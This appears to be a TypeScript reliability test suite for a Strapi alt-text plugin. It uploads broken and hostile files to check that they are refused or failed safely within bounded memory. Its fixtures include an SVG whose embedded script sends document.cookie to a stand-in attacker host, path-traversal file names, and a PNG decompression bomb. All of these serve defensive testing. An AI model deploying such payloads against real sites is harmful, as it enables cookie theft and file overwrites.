import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { startEmulator, type Emulator } from '../../emulator/server';
import { bootPlayground, type PlaygroundApp } from '../harness/strapi-app';
import { solidPng, tinyPdf } from '../support/images';
import { fileRows, pluginServices } from '../support/plugin';
import { uploadThroughApi } from '../support/upload';
import { waitFor } from '../support/wait-for';
import { animatedGif, peakRssDuring, pngBomb } from '../unit/image-source/fixtures';
import { sweepForSecrets, watchSecrets, type SecretWatch } from '../reliability/secret-sweep';

/**
 * Reliability suite, bad input. Every hostile or broken file is either refused by Strapi itself
 * (the upload answers 400 and nothing is queued) or stored, and then skipped or failed by the
 * plugin with a reason an admin can read — the upload never fails because of the plugin, the
 * process stays up, and memory stays bounded (RSS of this process, which runs Strapi, sampled
 * every 5 ms over the whole file).
 */
const API_KEY = `bad-input-key-${randomBytes(12).toString('hex')}`;
const JOB_UID = 'plugin::auto-alt-text.job';
const MB = 1024 * 1024;

interface Job {
  id: number;
  status: string;
  attempts: number;
  strategy: string | null;
  errorCode: string | null;
  errorMessage: string | null;
}

let emulator: Emulator;
let app: PlaygroundApp;
let watch: SecretWatch;
let baseline = 0;
let peak = 0;
let sampler: NodeJS.Timeout;
const files: Record<string, Buffer> = {};

const services = () => pluginServices(app.strapi);
const jobOf = async (fileId: number) => ((await app.strapi.db.query(JOB_UID).findMany({ where: { fileId }, orderBy: { id: 'desc' }, limit: 1 })) as Job[])[0];
const settled = (fileId: number) =>
  waitFor(`the job of file #${fileId} to settle`, async () => {
    const job = await jobOf(fileId);
    return job && ['done', 'failed', 'skipped'].includes(job.status) ? job : undefined;
  }, 30000);
const row = async (id: number) =>
  (await app.strapi.db.query('plugin::upload.file').findOne({ where: { id } })) as { name: string; mime: string; width: number | null; height: number | null; alternativeText: string | null };
const jobCount = async () => Number(await app.strapi.db.query(JOB_UID).count({}));

beforeAll(async () => {
  // Every fixture is made before the baseline is taken, so the bound measures the app, not the test.
  const png = await solidPng(100, 100, { r: 30, g: 60, b: 220 });
  files.png = png;
  files.corrupt = Buffer.concat([png.subarray(0, 33), randomBytes(400)]); // PNG signature + IHDR, then noise
  files.bomb = await pngBomb(40000);
  files.gif = await animatedGif(120, 80);
  files.svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><script>fetch("http://attacker.invalid/"+document.cookie)</script>' +
      '<rect width="200" height="100" fill="#1e3cdc" onload="alert(1)"/></svg>'
  );
  files.jpeg = await sharp(randomBytes(5000 * 4000 * 3), { raw: { width: 5000, height: 4000, channels: 3 } }).jpeg({ quality: 95 }).toBuffer();
  expect(files.jpeg.length).toBeGreaterThan(19 * MB);

  emulator = await startEmulator({ accounts: [{ key: API_KEY, credits: 1000 }] });
  app = await bootPlayground({
    env: { ALT_TEXT_API_KEY: API_KEY, ALT_TEXT_BASE_URL: emulator.baseUrls.alttextlab, ALT_TEXT_POLL_INTERVAL_MS: '100', ALT_TEXT_REQUESTS_PER_SECOND: '0' },
  });
  watch = watchSecrets(app.strapi);
  baseline = process.memoryUsage.rss();
  peak = baseline;
  sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage.rss())), 5);
});

afterAll(async () => {
  clearInterval(sampler);
  watch?.restore();
  await app?.stop();
  await emulator?.close();
});

const upload = (name: string, bytes: Buffer, mime: string) => uploadThroughApi(app, { bytes, name, mime });

describe('bad input', () => {
  test('a corrupt PNG is stored; the plugin fails it once with UNSUPPORTED_IMAGE, naming the file', async () => {
    const { status, files: [file] } = await upload('corrupt.png', files.corrupt, 'image/png');
    expect(status).toBe(201);
    // Strapi could not read it either: it has no dimensions.
    expect(await row(file.id)).toMatchObject({ mime: 'image/png', width: null, height: null });
    const job = await settled(file.id);
    expect(job).toMatchObject({ status: 'failed', attempts: 1, errorCode: 'UNSUPPORTED_IMAGE' });
    expect(job.errorMessage).toBe(`UNSUPPORTED_IMAGE: alttextlab for file #${file.id} "corrupt.png": the provider could not process the image (500 IMAGE_INVALID)`);
  });

  test('a 0-byte file is refused by Strapi itself (400 "Files are empty"); nothing is queued', async () => {
    const jobs = await jobCount();
    const response = await fetch(`${app.url}/api/upload`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${app.apiToken}` },
      body: (() => {
        const form = new FormData();
        form.append('files', new Blob([], { type: 'image/png' }), 'empty.png');
        return form;
      })(),
    });
    expect(response.status).toBe(400);
    expect((await response.json()).error).toMatchObject({ name: 'ValidationError', message: 'Files are empty' });
    expect(await jobCount()).toBe(jobs);
  });

  test('a PDF sent as image/png: Strapi sniffs it as application/pdf (stored so, never queued) unless its name says .png too', async () => {
    // Named .pdf: Strapi's content detection wins over the declared type; the plugin never sees an image.
    const jobs = await jobCount();
    const detected = await upload('report.pdf', tinyPdf(), 'image/png');
    expect(detected.status).toBe(201);
    expect(await row(detected.files[0].id)).toMatchObject({ mime: 'application/pdf' });
    // Named .png: extension and declared type agree, and without plugin.upload.security Strapi keeps image/png.
    const { status, files: [file] } = await upload('invoice.png', tinyPdf(), 'image/png');
    expect(status).toBe(201);
    expect(await row(file.id)).toMatchObject({ mime: 'image/png', width: null });
    const job = await settled(file.id);
    expect(job).toMatchObject({ status: 'failed', attempts: 1, errorCode: 'UNSUPPORTED_IMAGE' });
    expect(job.errorMessage).toMatch(/"invoice\.png": the provider could not process the image/);
    expect(await jobCount()).toBe(jobs + 1);
  });

  test('a 40000×40000 PNG bomb: stored without dimensions; refused by the provider, and by the plugin’s own inline path from its header, in bounded memory', async () => {
    const { status, files: [file] } = await upload('bomb.png', files.bomb, 'image/png');
    expect(status).toBe(201);
    expect(await row(file.id)).toMatchObject({ width: null, height: null });
    const presigned = await settled(file.id);
    expect(presigned).toMatchObject({ status: 'failed', attempts: 1, errorCode: 'UNSUPPORTED_IMAGE', strategy: 'presigned' });

    await services().settings.update({ imageDelivery: 'inline' });
    try {
      const requestsBefore = emulator.requests.length;
      const { peak: inlinePeak, baseline: inlineBaseline } = await peakRssDuring(async () => {
        await services().queue.retryFailed({ jobIds: [presigned.id] });
        await waitFor('the inline attempt', async () => ((await jobOf(file.id))?.strategy === 'inline' && (await jobOf(file.id))?.status === 'failed' ? true : undefined));
      });
      const inline = await jobOf(file.id);
      expect(inline).toMatchObject({ status: 'failed', attempts: 1, errorCode: 'UNSUPPORTED_IMAGE', strategy: 'inline' });
      expect(inline.errorMessage).toBe(
        `UNSUPPORTED_IMAGE: alttextlab for file #${file.id} "bomb.png": inline delivery: the image is 40000×40000 (1600 MP), over the 100 MP inline limit`
      );
      // Nothing was sent, and decoding never started (1.6 GB of pixels).
      expect(emulator.requests.length).toBe(requestsBefore);
      expect(inlinePeak - inlineBaseline).toBeLessThan(150 * MB);
    } finally {
      await services().settings.update({ imageDelivery: 'auto' });
    }
  });

  test('an SVG with a script is rasterised and sent as a PNG, inline: no SVG (and no script) reaches the provider', async () => {
    const { status, files: [file] } = await upload('script.svg', files.svg, 'image/svg+xml');
    expect(status).toBe(201);
    const job = await settled(file.id);
    expect(job).toMatchObject({ status: 'done', strategy: 'inline' });
    const text = (await row(file.id)).alternativeText;
    // The emulator decoded a 512×256 raster: the plugin's rendering, not the SVG source.
    expect(text).toBe('A 512×256 image dominated by blue (#1e3cdc)');
    const request = emulator.requests.find((r) => r.result === text);
    expect(request).toMatchObject({ imageSource: 'base64' });
    expect(request?.imageUrl).toBeUndefined();
  });

  test('an animated GIF is described by its first frame', async () => {
    const { status, files: [file] } = await upload('animated.gif', files.gif, 'image/gif');
    expect(status).toBe(201);
    expect(await settled(file.id)).toMatchObject({ status: 'done' });
    expect((await row(file.id)).alternativeText).toBe('A 120×80 image dominated by red (#dc0000)');
  });

  test('a 20 MB JPEG is accepted, and the provider is sent Strapi’s 1000 px "large" rendition, not 20 MB', async () => {
    const { status, files: [file] } = await upload('huge photo.jpg', files.jpeg, 'image/jpeg');
    expect(status).toBe(201);
    expect(await settled(file.id)).toMatchObject({ status: 'done', strategy: 'presigned' });
    const last = emulator.requests[emulator.requests.length - 1];
    expect(new URL(last.imageUrl as string).pathname).toMatch(/\/large_huge_photo_[0-9a-f]+\.jpg$/);
    expect((await row(file.id)).alternativeText).toMatch(/^A 1000×800 image/);
  });

  test('file names with spaces and unicode are kept and described; "../" is refused by Strapi itself; backslashes are cut to the last segment', async () => {
    const unicode = 'Sommer Foto – ünïcødé 日本語 😀.png';
    const kept = await upload(unicode, files.png, 'image/png');
    expect(kept.status).toBe(201);
    expect(await settled(kept.files[0].id)).toMatchObject({ status: 'done' });
    expect(await row(kept.files[0].id)).toMatchObject({ name: unicode, alternativeText: expect.stringMatching(/^A 100×100 image/) });

    const jobs = await jobCount();
    const traversal = await fetch(`${app.url}/api/upload`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${app.apiToken}` },
      body: (() => {
        const form = new FormData();
        form.append('files', new Blob([new Uint8Array(files.png)], { type: 'image/png' }), '../../config/server.png');
        return form;
      })(),
    });
    expect(traversal.status).toBe(400);
    expect((await traversal.json()).error.message).toBe('File name contains invalid characters');
    expect(await jobCount()).toBe(jobs);

    const backslashes = await upload('..\\..\\evil.png', files.png, 'image/png');
    expect(backslashes.status).toBe(201);
    expect(await row(backslashes.files[0].id)).toMatchObject({ name: 'evil.png' });
    expect(await settled(backslashes.files[0].id)).toMatchObject({ status: 'done' });
    // Every object the provider was pointed at lies under this app's own prefix.
    for (const request of emulator.requests.filter((r) => r.imageUrl)) {
      expect(new URL(request.imageUrl as string).pathname.startsWith(`/${app.s3.bucket}/${app.s3.rootPath}/`)).toBe(true);
    }
  });

  test('afterwards the process is up, a normal image still gets its alt text, and RSS stayed bounded', async () => {
    expect((await fetch(`${app.url}/_health`)).status).toBe(204);
    const { files: [file] } = await upload('after.png', await solidPng(90, 90, { r: 20, g: 160, b: 40 }), 'image/png');
    await waitFor('alt text', async () => (await fileRows(app.strapi, [file.id]))[0].alternativeText ?? undefined);
    const growth = peak - baseline;
    console.log(`[reliability] bad input: RSS baseline ${Math.round(baseline / MB)} MB, peak ${Math.round(peak / MB)} MB (+${Math.round(growth / MB)} MB)`);
    // A decoded bomb alone would be 1600 MB; Strapi's own processing of the 20 MB JPEG (20 MP) is the largest real cost.
    expect(growth).toBeLessThan(512 * MB);
  });

  test('no log line or job record carried the API key or a signature', async () => {
    const result = await sweepForSecrets({ strapi: app.strapi, watch, secrets: [API_KEY], emulator });
    expect(result.findings).toEqual([]);
  });
});
